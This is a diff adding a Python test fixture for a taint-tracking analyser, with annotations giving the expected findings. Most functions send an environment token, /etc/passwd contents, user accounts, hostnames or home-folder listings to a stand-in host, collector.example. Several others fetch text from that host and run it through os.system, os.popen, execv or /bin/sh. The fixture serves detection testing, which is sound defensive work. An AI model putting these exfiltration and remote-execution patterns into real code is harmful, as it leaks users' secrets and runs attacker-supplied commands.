@@ -1,0 +1,449 @@
+"""Files and their names, the environment, the machine and its users."""
+import argparse
+import fileinput
+import fnmatch
+import getpass
+import glob
+import io
+import linecache
+import locale
+import mmap
+import os
+import pathlib
+import platform
+import pwd
+import shutil
+import socket
+import sys
+import tempfile
+import uuid
+
+import requests
+
+U = "https://collector.example/u"
+
+
+def environment():
+    token = os.environ["TOKEN"]  #~ source(ENVIRONMENT) f1, capability(ENVIRONMENT)
+    requests.post(U, data=token)  #~ sink(egress.http) f1, finding(traced) f1
+
+
+def environment_variable():
+    token = os.getenv("TOKEN")  #~ source(ENVIRONMENT) f2, capability(ENVIRONMENT)
+    requests.post(U, data=token)  #~ sink(egress.http) f2, finding(traced) f2
+
+
+def environment_presence():
+    requests.post(U, data={"ci": "CI" in os.environ})  #~ ok
+    requests.post(U, data={"ci": os.getenv("CI") == "1"})  #~ ok
+
+
+def list_folder():
+    names = os.listdir("/home")  #~ source(FILE_META) f4, capability(FILES)
+    requests.post(U, data=names)  #~ sink(egress.http) f4, finding(traced) f4
+
+
+def file_attributes():
+    info = os.stat("/etc/passwd")  #~ source(FILE_META) f5, capability(FILES)
+    requests.post(U, data=str(info))  #~ sink(egress.http) f5, finding(traced) f5
+
+
+def file_size():
+    size = os.path.getsize("/etc/passwd")  #~ source(FILE_META) f6
+    requests.post(U, data={"size": size})  #~ sink(egress.http) f6, finding(traced) f6
+
+
+def compared():
+    requests.post(U, data={"empty": os.path.getsize("/etc/passwd") == 0})  #~ ok
+    requests.post(U, data={"home": "me" in os.listdir("/home")})  #~ ok
+    requests.post(U, data={"old": os.stat("/etc/passwd").st_mtime < 1})  #~ ok
+
+
+def presence():
+    there = os.path.exists(os.getenv("T"))  #~ capability(FILES)
+    requests.post(U, data={"there": os.path.exists(os.getenv("T"))})  #~ ok
+
+
+def joined_path():
+    path = os.path.join("/srv", os.getenv("T"))  #~ source(ENVIRONMENT) f9
+    requests.post(U, data=path)  #~ sink(egress.http) f9, finding(traced) f9
+
+
+def path_part():
+    name = os.path.basename(os.getenv("T"))  #~ source(ENVIRONMENT) f10
+    requests.post(U, data=name)  #~ sink(egress.http) f10, finding(traced) f10
+
+
+def home_folder():
+    home = os.path.expanduser("~")  #~ source(USER) f11
+    requests.post(U, data=home)  #~ sink(egress.http) f11, finding(traced) f11
+
+
+def expanded():
+    path = os.path.expanduser(os.getenv("T"))  #~ source(ENVIRONMENT) f12
+    requests.post(U, data=path)  #~ sink(egress.http) f12, finding(traced) f12
+
+
+def constant_paths():
+    requests.post(U, data=os.path.join("a", "b"))  #~ ok
+    requests.post(U, data=os.path.basename("a/b"))  #~ ok
+    requests.post(U, data=os.path.expanduser("/a"))  #~ ok
+
+
+def descriptor():
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f14, capability(FILES)
+    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f14, finding(traced) f14
+
+
+def descriptor_wrapped():
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f15
+    requests.post(U, data=os.fdopen(fd).read())  #~ sink(egress.http) f15, finding(traced) f15
+
+
+def descriptor_copied():
+    fd = os.dup(os.open("/etc/passwd", os.O_RDONLY))  #~ source(FILE) f16
+    requests.post(U, data=os.read(fd, 100))  #~ sink(egress.http) f16, finding(traced) f16
+
+
+def descriptor_sent(out):
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f17
+    os.sendfile(out, fd, 0, 100)  #~ sink(egress.socket) f17, finding(traced) f17
+
+
+def through_pipe():
+    r, w = os.pipe()  #~ capability(IPC)
+    os.write(w, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f18, capability(FILE_WRITE)
+    requests.post(U, data=os.read(r, 100))  #~ sink(egress.http) f18, finding(traced) f18
+
+
+def constant_pipe(out):
+    r, w = os.pipe()  #~ ok
+    os.mkfifo("/tmp/fifo")  #~ capability(IPC)
+    os.mkfifo("/tmp/fifo")  #~ ok
+    os.write(w, b"x")  #~ ok
+    requests.post(U, data=os.read(r, 100))  #~ ok
+    requests.post(U, data=os.fdopen(os.dup(r)).read())  #~ ok
+    os.open("/etc/passwd", os.O_RDONLY)  #~ ok
+    os.sendfile(out, r, 0, 100)  #~ ok
+
+
+def run_shell():
+    os.system(requests.get(U).text)  #~ source(NETWORK) f20, sink(exec.command) f20, finding(traced) f20, capability(EXEC)
+
+
+def run_pipe():
+    os.popen(requests.get(U).text)  #~ source(NETWORK) f21, sink(exec.command) f21, finding(traced) f21, capability(EXEC)
+
+
+def pipe_output():
+    text = os.popen("id").read()  #~ source(COMMAND_OUTPUT) f22
+    requests.post(U, data=text)  #~ sink(egress.http) f22, finding(traced) f22
+
+
+def replace_process():
+    os.execv(requests.get(U).text, ["x"])  #~ source(NETWORK) f23, sink(exec.command) f23, finding(traced) f23
+
+
+def spawn_process():
+    os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", requests.get(U).text])  #~ source(NETWORK) f24, sink(exec.command) f24, finding(traced) f24
+
+
+def constant_commands():
+    os.system("sync")  #~ ok
+    os.popen("sync")  #~ ok
+    os.execv("/bin/true", ["true"])  #~ ok
+    os.spawnv(os.P_WAIT, "/bin/true", ["true"])  #~ ok
+    os.fork()  #~ capability(PROCESSES)
+    requests.post(U, data={"child": os.fork() == 0})  #~ ok
+
+
+def kernel():
+    name = os.uname()  #~ source(DEVICE) f26, capability(DEVICE)
+    requests.post(U, data=str(name))  #~ sink(egress.http) f26, finding(traced) f26
+
+
+def machine():
+    name = platform.node()  #~ source(DEVICE) f27, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f27, finding(traced) f27
+
+
+def interpreter():
+    name = sys.platform  #~ source(DEVICE) f28
+    requests.post(U, data=name)  #~ sink(egress.http) f28, finding(traced) f28
+
+
+def windows():
+    name = sys.getwindowsversion()  #~ source(DEVICE) f29
+    requests.post(U, data=str(name))  #~ sink(egress.http) f29, finding(traced) f29
+
+
+def machine_compared():
+    requests.post(U, data={"linux": os.uname().sysname == "Linux"})  #~ ok
+    requests.post(U, data={"linux": platform.node() == "localhost"})  #~ ok
+    requests.post(U, data={"linux": sys.platform == "linux"})  #~ ok
+    requests.post(U, data={"new": sys.getwindowsversion().major == 10})  #~ ok
+
+
+def arguments():
+    requests.post(U, data=sys.argv[1])  #~ source(INPUT) f31, sink(egress.http) f31, finding(traced) f31
+
+
+def arguments_counted():
+    requests.post(U, data={"n": len(sys.argv)})  #~ ok
+
+
+def standard_input():
+    text = sys.stdin.read()  #~ source(INPUT) f33
+    requests.post(U, data=text)  #~ sink(egress.http) f33, finding(traced) f33
+
+
+def input_files():
+    for line in fileinput.input():  #~ source(INPUT) f34
+        requests.post(U, data=line)  #~ sink(egress.http) f34, finding(traced) f34
+
+
+def parsed_arguments():
+    parser = argparse.ArgumentParser()
+    args = parser.parse_args()  #~ source(INPUT) f35
+    requests.post(U, data=args.name)  #~ sink(egress.http) f35, finding(traced) f35
+
+
+def input_compared():
+    requests.post(U, data={"end": sys.stdin.read() == ""})  #~ ok
+    requests.post(U, data={"end": fileinput.input() == ""})  #~ ok
+    parser = argparse.ArgumentParser()  #~ ok
+    requests.post(U, data={"v": parser.parse_args().v == 1})  #~ ok
+
+
+def login():
+    name = os.getlogin()  #~ source(USER) f37
+    requests.post(U, data=name)  #~ sink(egress.http) f37, finding(traced) f37
+
+
+def user_name():
+    name = getpass.getuser()  #~ source(USER) f38, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f38, finding(traced) f38
+
+
+def accounts():
+    names = pwd.getpwall()  #~ source(USER) f39
+    requests.post(U, data=str(names))  #~ sink(egress.http) f39, finding(traced) f39
+
+
+def working_folder():
+    folder = os.getcwd()  #~ source(FILE_META) f40
+    requests.post(U, data=folder)  #~ sink(egress.http) f40, finding(traced) f40
+
+
+def process_number():
+    pid = os.getpid()  #~ source(PROCESS) f41
+    requests.post(U, data={"pid": pid})  #~ sink(egress.http) f41, finding(traced) f41
+
+
+def users_compared():
+    requests.post(U, data={"root": os.getlogin() == "root"})  #~ ok
+    requests.post(U, data={"root": getpass.getuser() == "root"})  #~ ok
+    requests.post(U, data={"root": "root" in pwd.getpwall()})  #~ ok
+    requests.post(U, data={"tmp": os.getcwd() == "/tmp"})  #~ ok
+    requests.post(U, data={"init": os.getpid() == 1})  #~ ok
+
+
+def host_name():
+    name = socket.gethostname()  #~ source(DEVICE) f43, capability(DEVICE)
+    requests.post(U, data=name)  #~ sink(egress.http) f43, finding(traced) f43
+
+
+def interfaces():
+    names = socket.if_nameindex()  #~ source(DEVICE) f44
+    requests.post(U, data=str(names))  #~ sink(egress.http) f44, finding(traced) f44
+
+
+def hardware_address():
+    address = uuid.getnode()  #~ source(DEVICE) f45
+    requests.post(U, data={"mac": address})  #~ sink(egress.http) f45, finding(traced) f45
+
+
+def language():
+    name = locale.getlocale()  #~ source(DEVICE) f46
+    requests.post(U, data=name[0])  #~ sink(egress.http) f46, finding(traced) f46
+
+
+def device_compared():
+    requests.post(U, data={"lab": socket.gethostname() == "lab"})  #~ ok
+    requests.post(U, data={"lab": "eth0" in socket.if_nameindex()})  #~ ok
+    requests.post(U, data={"lab": uuid.getnode() == 1})  #~ ok
+    requests.post(U, data={"en": locale.getlocale() == ("en", "x")})  #~ ok
+
+
+def remove():
+    os.remove("/tmp/x")  #~ capability(FILE_WRITE)
+    os.remove("/tmp/x")  #~ ok
+
+
+def rename():
+    os.rename("/tmp/a", "/tmp/b")  #~ capability(FILE_WRITE)
+    os.rename("/tmp/a", "/tmp/b")  #~ ok
+
+
+def copy_file():
+    shutil.copyfile("/tmp/a", "/tmp/b")  #~ capability(FILES), capability(FILE_WRITE)
+    shutil.copyfile("/tmp/a", "/tmp/b")  #~ ok
+
+
+def copy_stream():
+    target = io.BytesIO()
+    shutil.copyfileobj(open("/etc/passwd", "rb"), target)  #~ source(FILE) f51
+    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f51, finding(traced) f51
+
+
+def copy_constant_stream():
+    target = io.BytesIO()
+    shutil.copyfileobj(io.BytesIO(b"x"), target)  #~ ok
+    requests.post(U, data=target.getvalue())  #~ ok
+
+
+def archive():
+    name = shutil.make_archive("/tmp/out", "zip", "/home")  #~ capability(FILES), capability(FILE_WRITE)
+    requests.post(U, data=name)  #~ ok
+    shutil.make_archive("/tmp/out", "zip", "/home")  #~ ok
+    shutil.unpack_archive("/tmp/in.zip", "/tmp")  #~ capability(FILE_WRITE)
+    shutil.unpack_archive("/tmp/in.zip", "/tmp")  #~ ok
+
+
+def disk():
+    space = shutil.disk_usage("/")  #~ source(DEVICE) f54
+    requests.post(U, data=str(space))  #~ sink(egress.http) f54, finding(traced) f54
+
+
+def disk_compared():
+    requests.post(U, data={"full": shutil.disk_usage("/").free == 0})  #~ ok
+
+
+def find_files():
+    names = glob.glob("/home/*")  #~ source(FILE_META) f56, capability(FILES)
+    requests.post(U, data=names)  #~ sink(egress.http) f56, finding(traced) f56
+
+
+def filter_names():
+    names = fnmatch.filter(os.listdir("/home"), "*.txt")  #~ source(FILE_META) f57
+    requests.post(U, data=names)  #~ sink(egress.http) f57, finding(traced) f57
+
+
+def names_compared():
+    requests.post(U, data={"some": glob.glob("/home/*") == []})  #~ ok
+    requests.post(U, data=fnmatch.filter(["a"], "a"))  #~ ok
+
+
+def one_line():
+    line = linecache.getline("/etc/passwd", 1)  #~ source(FILE) f59, capability(FILES)
+    requests.post(U, data=line)  #~ sink(egress.http) f59, finding(traced) f59
+
+
+def one_line_compared():
+    requests.post(U, data={"root": linecache.getline("/etc/passwd", 1) == ""})  #~ ok
+
+
+def mapped():
+    fd = os.open("/etc/passwd", os.O_RDONLY)  #~ source(FILE) f61
+    view = mmap.mmap(fd, 0)  #~ capability(FILES)
+    requests.post(U, data=view.read(10))  #~ sink(egress.http) f61, finding(traced) f61
+
+
+def mapped_anonymous():
+    view = mmap.mmap(-1, 10)  #~ ok
+    requests.post(U, data=view.read(10))  #~ ok
+
+
+def temporary_file():
+    f = tempfile.NamedTemporaryFile()  #~ capability(FILE_WRITE)
+    f.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f63
+    f.seek(0)
+    requests.post(U, data=f.read())  #~ sink(egress.http) f63, finding(traced) f63
+
+
+def temporary_descriptor():
+    fd, path = tempfile.mkstemp()  #~ capability(FILE_WRITE)
+    os.write(fd, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f64
+    requests.post(U, data=os.read(os.open(path, os.O_CREAT), 10))  #~ sink(egress.http) fmk, finding(traced) fmk
+    tempfile.mkdtemp()  #~ capability(FILE_WRITE)
+
+
+def temporary_constant():
+    f = tempfile.NamedTemporaryFile()  #~ ok
+    f.write(b"x")
+    requests.post(U, data=f.read())  #~ ok
+    requests.post(U, data=tempfile.mkstemp()[1])  #~ ok
+    requests.post(U, data=tempfile.mkdtemp())  #~ ok
+
+
+def path_read():
+    text = pathlib.Path("/etc/passwd").read_text()  #~ source(FILE) f66, capability(FILES)
+    requests.post(U, data=text)  #~ sink(egress.http) f66, finding(traced) f66
+
+
+def path_read_untyped(path):
+    text = path.read_text()  #~ source(FILE) f67, capability(FILES)
+    requests.post(U, data=text)  #~ sink(egress.http) f67, finding(traced) f67
+
+
+def path_write():
+    pathlib.Path("/tmp/x").write_text("x")  #~ capability(FILE_WRITE)
+    pathlib.Path("/tmp/x").write_text("x")  #~ ok
+
+
+def path_write_untyped(path):
+    path.write_bytes("x")  #~ capability(FILE_WRITE)
+    path.write_bytes("x")  #~ ok
+
+
+def path_open():
+    f = pathlib.Path("/etc/passwd").open()  #~ source(FILE) f70, capability(FILES)
+    requests.post(U, data=f.read())  #~ sink(egress.http) f70, finding(traced) f70
+
+
+def path_open_write():
+    path = pathlib.Path("/tmp/x")
+    path.open("w").write(os.getenv("T"))  #~ source(ENVIRONMENT) f71
+    requests.post(U, data=path.open("w+").read())  #~ sink(egress.http) f71, finding(traced) f71
+
+
+def path_open_constant():
+    path = pathlib.Path("/tmp/y")
+    path.open("w").write("x")
+    requests.post(U, data=path.open("w+").read())  #~ ok
+    requests.post(U, data={"same": path.read_text() == ""})  #~ ok
+
+
+def path_home():
+    requests.post(U, data=pathlib.Path.home().as_posix())  #~ source(USER) f73, sink(egress.http) f73, finding(traced) f73
+
+
+def path_cwd():
+    requests.post(U, data=pathlib.Path.cwd().as_posix())  #~ source(FILE_META) f74, sink(egress.http) f74, finding(traced) f74
+
+
+def path_list():
+    for item in pathlib.Path("/home").iterdir():  #~ source(FILE_META) f75, capability(FILES)
+        requests.post(U, data=item.name)  #~ sink(egress.http) f75, finding(traced) f75
+
+
+def path_from_parts():
+    path = pathlib.Path("/home", os.getenv("T"))  #~ source(ENVIRONMENT) f76
+    requests.post(U, data=path.name)  #~ sink(egress.http) f76, finding(traced) f76
+
+
+def path_joined():
+    path = pathlib.Path("/home").joinpath(os.getenv("T"))  #~ source(ENVIRONMENT) f77
+    requests.post(U, data=path.as_posix())  #~ sink(egress.http) f77, finding(traced) f77
+
+
+def path_constants():
+    requests.post(U, data={"root": pathlib.Path.home().name == "root"})  #~ ok
+    requests.post(U, data={"root": pathlib.Path.cwd().name == "root"})  #~ ok
+    requests.post(U, data={"some": pathlib.Path("/home").iterdir() == []})  #~ ok
+    requests.post(U, data=pathlib.Path("/home").joinpath("x").as_posix())  #~ ok
+
+
+def path_change():
+    pathlib.Path("/tmp/x").mkdir()  #~ capability(FILE_WRITE)
+    pathlib.Path("/tmp/x").mkdir()  #~ ok
